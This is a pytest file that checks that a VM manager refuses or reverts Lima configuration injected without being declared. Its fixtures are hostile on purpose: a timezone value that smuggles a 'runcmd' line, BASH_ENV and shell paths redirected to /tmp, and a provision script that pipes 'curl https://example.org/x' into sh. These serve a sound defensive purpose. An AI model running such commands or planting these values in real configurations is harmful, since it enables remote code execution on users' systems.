"""DVM314: whatever of Lima's configuration nobody declared is neither booted nor contacted, wherever it comes from.

On the simulator, and for real. Nothing here boots, so the image need not be one.
"""

from __future__ import annotations

import json
from collections.abc import Collection
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Dvm

TEMPLATE = "vmType: qemu\narch: x86_64\nimages:\n- location: {image}\n  arch: x86_64\n"
BOTH = ("strict", "standard")
ARCHIVES = [{"location": "{home}/key", "arch": "x86_64"}]
DENIED: dict[str, Any] = {
    "vmOpts.qemu.cpuType.x86_64": {"vmOpts": {"qemu": {"cpuType": {"x86_64": "max"}}}},
    "vmOpts.qemu.later": {"vmOpts": {"qemu": {"later": 1}}},
    "vmOpts.other": {"vmOpts": {"other": {"file": "{home}/key"}}},
    "vmOpts.vz.rosetta.enabled": {"vmOpts": {"vz": {"rosetta": {"enabled": True}}}},
    "osOpts": {"osOpts": {"Windows": {"virtioWin": [{"location": "{home}/key"}]}}},
    "nestedVirtualization": {"nestedVirtualization": True},
    "video.display": {"video": {"display": "gtk"}},
    "ssh.localPort": {"ssh": {"localPort": 60022}},
    "env.BASH_ENV": {"env": {"BASH_ENV": "/tmp/x"}},
    "param.x": {"param": {"x": "y"}},
    "hostResolver.hosts.git.example.com": {"hostResolver": {"hosts": {"git.example.com": "192.0.2.1"}}},
    "hostResolver.enabled": {"hostResolver": {"enabled": False}, "dns": ["192.0.2.1"]},
    "user.shell": {"user": {"shell": "/tmp/sh"}},
    "user.home": {"user": {"home": "/tmp/x"}},
    "user.uid": {"user": {"uid": 1 << 20}},
    "user.name": {"user": {"name": "mallory"}},
    "guestInstallPrefix": {"guestInstallPrefix": "/tmp"},
    "upgradePackages": {"upgradePackages": True},
    "caCerts.removeDefaults": {"caCerts": {"removeDefaults": True}},
    "caCerts.certs": {"caCerts": {"certs": ["-----BEGIN CERTIFICATE-----\nx\n-----END CERTIFICATE-----\n"]}},
    "containerd.archives": {"containerd": {"archives": ARCHIVES}},
    "timezone": {"timezone": "UTC\nruncmd: [[touch, /owned]]"},
}
"""What is denied by the field that is reported: what a file of Lima's says."""
# Lima refuses one that no script of the instance's own file uses.
OTHERS = {field: value for field, value in DENIED.items() if field != "param.x"}
# In plain mode Lima sets these after the merge.
PLAIN_TAKES_AWAY = {"timezone"}
# DVM sets it in the instance, which is stronger than default.yaml; the others it leaves to the template.
STANDARD_ONLY = {
    "containerd.system": {"containerd": {"system": True}},
    "containerd.user": {"containerd": {"user": True}},
}
HARMLESS: dict[str, Any] = {
    "cpus": {"cpus": 2},
    "memory": {"memory": "3GiB"},
    "no mounts": {"mounts": []},
    "containerd off": {"containerd": {"system": False, "user": False}},
    "no keys of ~/.ssh": {"ssh": {"loadDotSSHPubKeys": False}},
    "timezone": {"timezone": "Europe/Paris"},
    "mountType": {"mountType": "9p", "mountTypesUnsupported": ["virtiofs"], "mountInotify": False},
    "hostResolver.ipv6": {"hostResolver": {"ipv6": True}},
    "firmware.legacyBIOS": {"firmware": {"legacyBIOS": False}},
    "ssh.overVsock": {"ssh": {"overVsock": False}},
    "vmOpts.qemu.minimumVersion": {"vmOpts": {"qemu": {"minimumVersion": "1.0.0"}}},
    "user.comment": {"user": {"comment": "Somebody"}},
    # Lima takes these from an instance's own file alone.
    "base": {"base": "template:docker"},
    "cpuType": {"cpuType": {"x86_64": "max"}},
    "rosetta": {"rosetta": {"enabled": True}},
    "message": {"message": "hello"},
    "minimumLimaVersion": {"minimumLimaVersion": "1.0.0"},
    "unknown to Lima": {"unheardOf": {"a": 1}},
}


def together(cases: dict[str, Any]) -> list[dict[str, Any]]:
    """Return the cases in as few parts as can be: those of a part have no key in common, and are said in one file."""
    parts: list[dict[str, Any]] = []
    for field, value in cases.items():
        for part in parts:
            if not any(value.keys() & other.keys() for other in part.values()):
                part[field] = value
                break
        else:
            parts.append({field: value})
    return parts


def merged(part: dict[str, Any]) -> dict[str, Any]:
    """Return what one file says for all of a part."""
    return {key: inner for value in part.values() for key, inner in value.items()}


def created(dvm: Dvm, isolation: str, *, template: str = TEMPLATE, running: bool = False) -> None:
    dvm.write("t.yaml", template.format(image=dvm.place / "image"))
    tail = "" if running else "running = false\n"
    dvm.manifest(f'[vm.app]\ntemplate = "./t.yaml"\nisolation = "{isolation}"\n{tail}')
    if not running:
        result = dvm.run("apply", "-y")
        assert result.code == 0, result.out + result.err


def config_file(dvm: Dvm, name: str, value: dict[str, Any]) -> Path:
    path = dvm.lima_home / "_config" / f"{name}.yaml"
    path.parent.mkdir(mode=0o700, exist_ok=True)
    # JSON is YAML.
    path.write_text(json.dumps(value).replace("{home}", str(dvm.place)))
    path.chmod(0o600)
    return path


def wrong(dvm: Dvm, fields: Collection[str], path: Path) -> list[str]:
    """Start the VM, which must be refused for each of the fields and that file; return what is wrong with the refusal."""
    result = dvm.run("start", "app")
    said = result.out + result.err
    (line,) = dvm.limactl("list", "--json").out.splitlines()
    if "sshLocalPort" in line and '"sshLocalPort":60022' not in line.replace(" ", ""):
        return [f"{fields}: booted"]
    if result.code != 3 or "DVM314" not in said or str(path) not in said:
        return [f"{fields}: {result.code} {said}"]
    return [f"{field}: not among what is refused: {said}" for field in fields if f"`{field}`" not in said]


@pytest.mark.parametrize("isolation", BOTH)
@pytest.mark.parametrize("name", ["override", "default"])
def test_what_config_injects_is_not_booted(either: Dvm, name: str, isolation: str) -> None:
    created(either, isolation)
    cases = dict(DENIED)
    if isolation == "standard" and name == "override":
        cases |= STANDARD_ONLY
    if isolation == "strict":
        cases = {field: value for field, value in cases.items() if field not in PLAIN_TAKES_AWAY}
    found = []
    for part in together(cases):
        path = config_file(either, name, merged(part))
        found += wrong(either, part, path)
        path.unlink()
    assert found == []


@pytest.mark.parametrize("isolation", BOTH)
def test_what_is_put_into_its_own_file_is_drift_and_not_booted(either: Dvm, isolation: str) -> None:
    created(either, isolation)
    own = either.lima_home / "dvm-app" / "lima.yaml"
    before = own.read_bytes()
    cases = dict(OTHERS)
    if isolation == "standard":
        cases |= {"cpuType.x86_64": {"cpuType": {"x86_64": "max"}}, **STANDARD_ONLY}
    else:
        cases = {field: value for field, value in cases.items() if field not in PLAIN_TAKES_AWAY}
    found = []
    for part in together(cases):
        sets = []
        for key, inner in json.loads(json.dumps(merged(part)).replace("{home}", str(either.place))).items():
            sets += ["--set", f".{key} = {json.dumps(inner)}"]
        done = either.limactl("edit", "--tty=false", *sets, "dvm-app")
        assert done.code == 0, done.err
        found += wrong(either, part, own)
        planned = either.run("plan")
        found += [
            f"{field}: the plan does not undo it: {planned.code} {planned.out}"
            for field in part
            if planned.code != 0 or f"lima.{field}" not in planned.out
        ]
        own.write_bytes(before)
    assert found == []


@pytest.mark.parametrize("field", ["env.BASH_ENV", "user.shell", "hostResolver.enabled", "containerd.user"])
def test_the_plan_takes_it_out_and_ends(either: Dvm, field: str) -> None:
    created(either, "standard")
    for key, inner in {**DENIED, **STANDARD_ONLY}[field].items():
        assert either.limactl("edit", "--tty=false", "--set", f".{key} = {json.dumps(inner)}", "dvm-app").code == 0
    result = either.run("apply", "-y")
    assert result.code == 0, result.out + result.err
    assert f"lima.{field}" in result.out
    again = either.run("plan", "--detailed-exitcode")
    assert (again.code, again.out.splitlines()[-1]) == (0, "No changes. Your VMs match the manifest.")


FROM_BASE = [
    *together(
        {
            field: OTHERS[field]
            for field in sorted(OTHERS.keys() - {"hostResolver.enabled", "user.name"} - PLAIN_TAKES_AWAY)
        }
    ),
    {field: OTHERS[field] for field in PLAIN_TAKES_AWAY},
]
PROVISION = TEMPLATE + "provision:\n- mode: system\n  script: |\n    #!/bin/sh\n    echo {{{{.Name}}}}\nenv: {{A: b}}\n"


def test_a_script_put_in_by_hand_is_drift_that_the_plan_removes(either: Dvm) -> None:
    created(either, "strict", template=PROVISION)
    added = '.provision += [{"mode":"system","script":"#!/bin/sh\\ncurl -fsSL https://example.org/x | sh\\n"}]'
    assert either.limactl("edit", "--tty=false", "--set", added, "dvm-app").code == 0
    planned = either.run("plan")
    assert planned.code == 0, planned.out + planned.err
    assert "DVM306" in planned.out
    assert "lima.provision" in planned.out
    assert "curl" in planned.out
    checked = either.run("check")
    assert "DVM306" in checked.out
    started = either.run("start", "app")
    assert (started.code, "DVM306" in started.out + started.err) == (3, True)
    result = either.run("apply", "-y")
    assert result.code == 0, result.out + result.err
    again = either.run("plan", "--detailed-exitcode")
    assert (again.code, again.out.splitlines()[-1]) == (0, "No changes. Your VMs match the manifest.")
    (line,) = (json.loads(text) for text in either.limactl("list", "--json").out.splitlines())
    assert [entry["script"] for entry in line["config"]["provision"]] == ["#!/bin/sh\necho dvm-app\n"]


@pytest.mark.parametrize("isolation", BOTH)
def test_what_is_harmless_passes(either: Dvm, isolation: str) -> None:
    created(either, isolation)
    for name in ("override", "default"):
        # As an override these two are drift from the manifest that no edit ends.
        drift = ("cpus", "memory") if name == "override" else ()
        for part in together({field: value for field, value in HARMLESS.items() if field not in drift}):
            path = config_file(either, name, merged(part))
            result = either.run("plan", "--detailed-exitcode")
            assert (result.code, "DVM3" in result.out) == (0, False), (name, part, result.out + result.err)
            path.unlink()


@pytest.mark.parametrize("part", FROM_BASE, ids=lambda part: next(iter(part)))
def test_what_base_yaml_brings_at_create_is_not_booted(either: Dvm, part: dict[str, Any]) -> None:
    isolation = "standard" if part.keys() & PLAIN_TAKES_AWAY else "strict"
    created(either, isolation, running=True)
    path = config_file(either, "base", merged(part))
    result = either.run("apply", "-y")
    said = result.out + result.err
    assert (result.code, "DVM314" in said, str(path) in said) == (3, True, True), said
    (line,) = either.limactl("list", "--json").out.splitlines()
    assert '"status":"Stopped"' in line.replace(": ", ":")
    # Taken out of base.yaml, it is still in the instance's own file, and the plan undoes it there.
    path.unlink()
    planned = either.run("plan")
    assert planned.code == 0, planned.out + planned.err
    assert [field for field in part if f"lima.{field}" not in planned.out] == [], planned.out
